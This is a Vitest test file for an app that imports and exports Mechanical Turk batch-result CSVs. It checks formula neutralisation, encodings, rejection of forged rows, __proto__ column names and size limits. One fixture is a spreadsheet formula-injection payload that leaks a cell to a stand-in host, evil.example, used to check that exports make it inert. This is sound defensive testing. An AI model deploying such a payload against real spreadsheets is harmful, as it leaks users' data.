import { afterEach, describe, expect, it } from 'vitest';
import { importBatchResults } from '../../../electron/archive/batch-results-csv';
import { batchColumns, parseBatchRow } from '../../../electron/archive/batch-results-rows';
import { exportBatchResultsCsv } from '../../../electron/archive/batch-results-export';
import { getAssignment, upsertAssignments, type AssignmentRecord } from '../../../electron/archive/repos/assignments';
import { getHit, upsertHits, type HitRecord } from '../../../electron/archive/repos/hits';
import { parseCsv, stringifyCsv } from '../../../shared/domain/csv';
import { buildQuestionFormAnswers } from '../../../shared/mturk/answers';
import { assignmentIdOf, HEADER, websiteFile, websiteRow } from '../archive-service/website-file';
import { archiveFingerprint } from './archive-fingerprint';
import { openTestArchive, T0, type TestArchive } from './fixtures';

let t: TestArchive;
afterEach(() => t.archive.close());

const importBytes = (bytes: Uint8Array) => importBatchResults(t.archive.write, t.connectionId, bytes, { fileName: 'batch.csv', now: T0 });
const importText = (text: string) => importBytes(Buffer.from(text));
const column = (name: string): number => HEADER.indexOf(name);

/** HIT A of `websiteRow`, as a sync reports it (with the HIT status the website file lacks). */
const SYNCED_HIT: HitRecord = {
  hitId: websiteRow(0)[column('HITId')]!, hitTypeId: '3ARCHIVESVCTYPE000000000000001', hitGroupId: null, hitLayoutId: null,
  title: 'Label the sentiment of a tweet', description: 'Pick positive or negative.', keywords: 'sentiment', question: '<HTMLQuestion/>',
  rewardCents: 40, maxAssignments: 2, assignmentDurationSeconds: 3600, autoApprovalDelaySeconds: 259_200, requesterAnnotation: 'BatchId:77;',
  qualificationRequirements: [], status: 'Reviewable', reviewStatus: 'NotReviewed', assignmentsPending: 0, assignmentsAvailable: 0,
  assignmentsCompleted: 2, creationTime: Date.UTC(2026, 10, 2, 17, 15), expiration: Date.UTC(2026, 10, 9, 17, 15),
};

/** Assignment 0 of `websiteRow`, as a sync reports it: approved since the file was downloaded. */
const SYNCED_ASSIGNMENT: AssignmentRecord = {
  assignmentId: assignmentIdOf(0), hitId: SYNCED_HIT.hitId, workerId: 'A3ARCHIVEWORKER0', status: 'Approved',
  acceptTime: Date.UTC(2026, 10, 3, 18, 0, 0), submitTime: Date.UTC(2026, 10, 3, 18, 1, 30), autoApprovalTime: Date.UTC(2026, 10, 6, 18, 1, 30),
  approvalTime: Date.UTC(2026, 10, 4, 18, 0, 0), rejectionTime: null, deadline: Date.UTC(2026, 10, 3, 19, 0, 0),
  answerXml: buildQuestionFormAnswers([{ questionIdentifier: 'sentiment', freeText: 'positive' }]), requesterFeedback: null,
};

function syncedArchive(): void {
  t = openTestArchive();
  upsertHits(t.archive.write, t.connectionId, [SYNCED_HIT], T0);
  upsertAssignments(t.archive.write, t.connectionId, [SYNCED_ASSIGNMENT], T0);
}

describe('CSV export neutralises spreadsheet formulas', () => {
  const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

  it('writes a formula answer as inert text, and re-imports it as the same answer', () => {
    t = openTestArchive();
    const tricky = { 'Answer.sentiment': FORMULA, 'Input.tweet': "'=already quoted", RequesterFeedback: '@SUM(1)' };
    expect(importText(websiteFile([websiteRow(0, tricky), websiteRow(1, { 'Answer.sentiment': '-5' })])).ok).toBe(true);
    const exported = exportBatchResultsCsv(t.archive.read, { connectionId: t.connectionId, filter: {} });
    expect(exported).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(exported).not.toMatch(/(^|,)"?[=+\-@]/m);
    const cells = parseCsv(exported);
    if (!cells.ok) throw new Error(cells.error.message);
    expect(cells.value.records[1]!.cells[column('Input.tweet')]).toBe("''=already quoted");

    // The export goes back into a fresh archive with exactly the original values.
    t.archive.close();
    t = openTestArchive();
    expect(importText(exported).ok).toBe(true);
    const first = getAssignment(t.archive.read, t.connectionId, assignmentIdOf(0))!;
    expect(first.answers.sentiment).toBe(FORMULA);
    expect(first.requesterFeedback).toBe('@SUM(1)');
    expect(getAssignment(t.archive.read, t.connectionId, assignmentIdOf(1))!.answers.sentiment).toBe('-5');
    expect(exportBatchResultsCsv(t.archive.read, { connectionId: t.connectionId, filter: {} })).toBe(exported);
  });

  it('neutralises what a sync archived too (an answer never imported from a file)', () => {
    syncedArchive();
    const evil = { ...SYNCED_ASSIGNMENT, assignmentId: 'A9', answerXml: buildQuestionFormAnswers([{ questionIdentifier: 'sentiment', freeText: FORMULA }]) };
    upsertAssignments(t.archive.write, t.connectionId, [evil], T0);
    const exported = exportBatchResultsCsv(t.archive.read, { connectionId: t.connectionId, assignmentIds: ['A9'] });
    expect(exported).toContain(`"'=HYPERLINK(`);
  });
});

describe('encodings: read strictly, converted knowingly or refused', () => {
  const LATIN = 'café naïve Zürich';
  const file = (): string => websiteFile([websiteRow(0, { 'Answer.sentiment': LATIN })]);
  const answer = (): string | undefined => getAssignment(t.archive.read, t.connectionId, assignmentIdOf(0))?.answers.sentiment;

  it('reads a Windows-1252 (Latin-1) file as such and says so', () => {
    t = openTestArchive();
    const result = importBytes(Buffer.from(file(), 'latin1'));
    expect(result).toMatchObject({ ok: true, value: { encoding: 'Windows-1252', notes: [expect.stringMatching(/^Read as Windows-1252/)] } });
    expect(answer()).toBe(LATIN);
  });

  const utf16be = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
  const utf32 = (text: string, littleEndian: boolean): Buffer => {
    const points = [...text].map((c) => c.codePointAt(0)!);
    const out = Buffer.alloc(points.length * 4);
    points.forEach((p, i) => (littleEndian ? out.writeUInt32LE(p, i * 4) : out.writeUInt32BE(p, i * 4)));
    return out;
  };
  const cases: [string, (text: string) => Buffer, string][] = [
    ['UTF-8 with a BOM', (s) => Buffer.from(`\uFEFF${s}`), 'UTF-8'],
    ['UTF-16LE with a BOM', (s) => Buffer.from(`\uFEFF${s}`, 'utf16le'), 'UTF-16LE'],
    ['UTF-16LE without a BOM', (s) => Buffer.from(s, 'utf16le'), 'UTF-16LE'],
    ['UTF-16BE with a BOM', (s) => utf16be(`\uFEFF${s}`), 'UTF-16BE'],
    ['UTF-16BE without a BOM', (s) => utf16be(s), 'UTF-16BE'],
    ['UTF-32LE with a BOM', (s) => utf32(`\uFEFF${s}`, true), 'UTF-32LE'],
    ['UTF-32LE without a BOM', (s) => utf32(s, true), 'UTF-32LE'],
    ['UTF-32BE with a BOM', (s) => utf32(`\uFEFF${s}`, false), 'UTF-32BE'],
    ['UTF-32BE without a BOM', (s) => utf32(s, false), 'UTF-32BE'],
  ];
  for (const [name, encode, encoding] of cases) {
    it(`reads ${name}`, () => {
      t = openTestArchive();
      const result = importBytes(encode(file()));
      expect(result).toMatchObject({ ok: true, value: { encoding, notes: encoding === 'UTF-8' ? [] : [expect.stringContaining(encoding)] } });
      expect(answer()).toBe(LATIN);
    });
  }

  it('refuses bytes that are neither UTF-8 nor plausibly Windows-1252, naming the line and what to do', () => {
    t = openTestArchive();
    const shiftJis = Buffer.concat([Buffer.from(websiteFile([websiteRow(0)]).split('\r\n')[0]! + '\r\n'), Buffer.from([0x93, 0xfa, 0x96, 0x7b, 0x8c, 0xea, 0x82, 0xa0])]);
    const result = importBytes(shiftJis);
    expect(result).toMatchObject({ ok: false, error: { kind: 'validation', field: 'encoding' } });
    if (!result.ok) expect(result.error.message).toMatch(/^The file is not UTF-8 text \(the first invalid byte is on line 2\).*CSV UTF-8/);
    const damaged = Buffer.from(websiteFile([websiteRow(0, { 'Answer.sentiment': LATIN }), websiteRow(1, { 'Input.tweet': 'déjà vu' })]));
    damaged[damaged.indexOf('déjà') + 1] = 0xff;
    expect(importBytes(damaged)).toMatchObject({ ok: false, error: { field: 'encoding', message: expect.stringMatching(/^The file is UTF-8 text with invalid bytes in it \(the first is on line \d+\)/) } });
    const brokenUtf16 = importBytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('HITId', 'utf16le'), Buffer.from([0x00, 0xd8, 0x41, 0x00])]));
    expect(brokenUtf16).toMatchObject({ ok: false, error: { field: 'encoding', message: expect.stringContaining('UTF-16LE byte order mark but is not valid UTF-16LE') } });
  });
});

describe('an import never overwrites data synced from MTurk', () => {
  it('refuses a forged row reusing synced ids, naming the row and every differing field, and changes nothing', () => {
    syncedArchive();
    const before = archiveFingerprint(t.archive.read);
    const forged = websiteRow(0, { AssignmentStatus: 'Rejected', Reward: '$99.00', 'Answer.sentiment': 'forged', ApprovalTime: '', RejectionTime: 'Wed Nov 04 10:00:00 PST 2026' });
    const result = importText(websiteFile([websiteRow(2), forged]));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toMatchObject({ kind: 'validation', field: 'row 3, column Reward' });
    expect(result.error.message).toBe(
      `Row 3 contradicts what MTurk reported for assignment ${assignmentIdOf(0)}: ` +
        'Reward is "$99.00" in the file but "$0.40" from MTurk; AssignmentStatus is "Rejected" in the file but "Approved" from MTurk; ' +
        'RejectionTime is "Wed Nov 04 10:00:00 PST 2026" in the file but "" from MTurk; Answer.sentiment is "forged" in the file but "positive" from MTurk. ' +
        'An import never overwrites data synced from MTurk; correct or remove the row and import again.',
    );
    expect(archiveFingerprint(t.archive.read)).toEqual(before);
    expect(getAssignment(t.archive.read, t.connectionId, assignmentIdOf(0))).toMatchObject({ status: 'Approved', answers: { sentiment: 'positive' } });
    expect(getHit(t.archive.read, t.connectionId, SYNCED_HIT.hitId)?.rewardCents).toBe(40);
  });

  it('accepts a file that agrees with MTurk (an older one too), keeps MTurk values, and stays idempotent', () => {
    syncedArchive();
    // Downloaded before the approval: status Submitted, no ApprovalTime. Row 1 is new, on the same synced HIT.
    const text = websiteFile([websiteRow(0), websiteRow(1)]);
    const first = importText(text);
    expect(first).toMatchObject({ ok: true, value: { rows: 2, hits: 1, assignments: 2, notes: ["1 assignment was already archived from MTurk and the file agrees with it; MTurk's values were kept."] } });
    const afterFirst = archiveFingerprint(t.archive.read, ['csv_imports', 'csv_import_rows']);
    expect(importText(text).ok).toBe(true);
    expect(archiveFingerprint(t.archive.read, ['csv_imports', 'csv_import_rows'])).toEqual(afterFirst);
    expect(getAssignment(t.archive.read, t.connectionId, assignmentIdOf(0))).toMatchObject({ status: 'Approved', answerXml: SYNCED_ASSIGNMENT.answerXml });
    expect(getHit(t.archive.read, t.connectionId, SYNCED_HIT.hitId)).toMatchObject({ status: 'Reviewable', question: '<HTMLQuestion/>' });
    expect(getAssignment(t.archive.read, t.connectionId, assignmentIdOf(1))).toMatchObject({ status: 'Submitted', answers: { sentiment: 'negative' } });
  });

  it('refuses a HIT-level contradiction of a synced HIT even on a new assignment', () => {
    syncedArchive();
    const result = importText(websiteFile([websiteRow(1, { Title: 'Something else entirely' })]));
    expect(result).toMatchObject({ ok: false, error: { field: 'row 2, column Title' } });
    if (!result.ok) expect(result.error.message).toContain(`HIT ${SYNCED_HIT.hitId}: Title is "Something else entirely" in the file but "Label the sentiment of a tweet" from MTurk`);
  });

  it('refuses a new HIT that names a synced HIT type with other type fields', () => {
    syncedArchive();
    const otherHit = websiteRow(2, { Reward: '$5.00' });
    const result = importText(websiteFile([otherHit]));
    expect(result).toMatchObject({ ok: false, error: { field: 'row 2, column Reward' } });
    if (!result.ok) expect(result.error.message).toContain('for HIT type 3ARCHIVESVCTYPE000000000000001: Reward is "$5.00" in the file but "$0.40" from MTurk');
    expect(importText(websiteFile([websiteRow(2)])).ok).toBe(true);
  });
});

describe('answers under any field name', () => {
  it('keeps an Answer.__proto__ (or Answer.constructor) column as the answer it is, through the import', () => {
    const header = HEADER.flatMap((name) => (name === 'Answer.sentiment' ? ['Answer.__proto__', 'Answer.constructor'] : [name]));
    const row = websiteRow(0).flatMap((cell, i) => (HEADER[i] === 'Answer.sentiment' ? ['kept', 'also kept'] : [cell]));
    const expected = [
      ['__proto__', 'kept'],
      ['constructor', 'also kept'],
    ];
    const parsed = parseBatchRow(batchColumns(header), row, 2);
    if (!parsed.ok) throw new Error(parsed.error.message);
    expect(Object.entries(parsed.value.assignment!.answers!)).toEqual(expected);

    t = openTestArchive();
    expect(importText(stringifyCsv([header, row], { quote: 'all' })).ok).toBe(true);
    expect(Object.entries(getAssignment(t.archive.read, t.connectionId, assignmentIdOf(0))!.answers)).toEqual(expected);
  });
});

describe('files that are refused whole, naming row and column', () => {
  const refused = (text: string | Uint8Array) => {
    t = openTestArchive();
    const before = archiveFingerprint(t.archive.read);
    const result = typeof text === 'string' ? importText(text) : importBytes(text);
    expect(archiveFingerprint(t.archive.read)).toEqual(before);
    if (result.ok) throw new Error('expected a refusal');
    return result.error;
  };

  it('a header with no rows', () => {
    expect(refused(stringifyCsv([HEADER]))).toEqual({
      kind: 'validation',
      message: 'The file has no rows: it has a header but no results under it. Download the results again and import that file.',
      field: 'row 2',
    });
  });

  it('two rows of one HIT that disagree about the HIT', () => {
    expect(refused(websiteFile([websiteRow(0), websiteRow(1, { Title: 'Another title' })]))).toEqual({
      kind: 'validation',
      message: `Row 3, column Title: HIT ${SYNCED_HIT.hitId} has "Another title" here but "Label the sentiment of a tweet" in row 2. A HIT has one Title; correct one of the two rows.`,
      field: 'row 3, column Title',
    });
    expect(refused(websiteFile([websiteRow(0), websiteRow(1, { Reward: '$0.41' })]))).toMatchObject({ field: 'row 3, column Reward' });
  });

  it('a NUL character in a cell or in the header', () => {
    expect(refused(websiteFile([websiteRow(0), websiteRow(1, { 'Answer.sentiment': 'pos\0itive' })]))).toEqual({
      kind: 'validation',
      message: 'Row 3, column Answer.sentiment: contains a NUL character (a zero byte), which no MTurk value can hold. Remove it and import again.',
      field: 'row 3, column Answer.sentiment',
    });
    expect(refused(stringifyCsv([[...HEADER.slice(0, 3), 'Desc\0ription', ...HEADER.slice(4)], websiteRow(0)]))).toMatchObject({ field: 'row 1, column 4' });
  });

  const limits: [string, number][] = [['Title', 128], ['Description', 2000], ['Keywords', 1000], ['RequesterAnnotation', 255], ['RequesterFeedback', 1024]];
  for (const [name, limit] of limits) {
    it(`${name} over MTurk's ${limit} characters`, () => {
      expect(refused(websiteFile([websiteRow(0, { [name]: 'x'.repeat(limit) }), websiteRow(2, { [name]: 'y'.repeat(limit + 1) })]))).toEqual({
        kind: 'validation',
        message: `Row 3, column ${name}: is ${(limit + 1).toLocaleString('en-US')} characters long; MTurk allows at most ${limit.toLocaleString('en-US')}.`,
        field: `row 3, column ${name}`,
      });
    });
  }

  it('a 5 MB title and a 20 MB answer', () => {
    expect(refused(websiteFile([websiteRow(0, { Title: 't'.repeat(5_000_000) })]))).toMatchObject({ field: 'row 2, column Title' });
    const answer = refused(websiteFile([websiteRow(0, { 'Answer.sentiment': 'a'.repeat(20_000_000) })]));
    expect(answer).toEqual({
      kind: 'validation',
      message: 'Row 2, column Answer.sentiment: the answers of this assignment take 20,000,000 bytes (this column is the largest); MTurk answers are at most 65,535 bytes.',
      field: 'row 2, column Answer.sentiment',
    });
  });

  it('accepts answers right at the limit, counted in UTF-8 bytes', () => {
    t = openTestArchive();
    expect(importText(websiteFile([websiteRow(0, { 'Answer.sentiment': 'é'.repeat(32_767) + 'x' })])).ok).toBe(true);
    t.archive.close();
    expect(refused(websiteFile([websiteRow(0, { 'Answer.sentiment': 'é'.repeat(32_768) })]))).toMatchObject({ field: 'row 2, column Answer.sentiment' });
  });
});
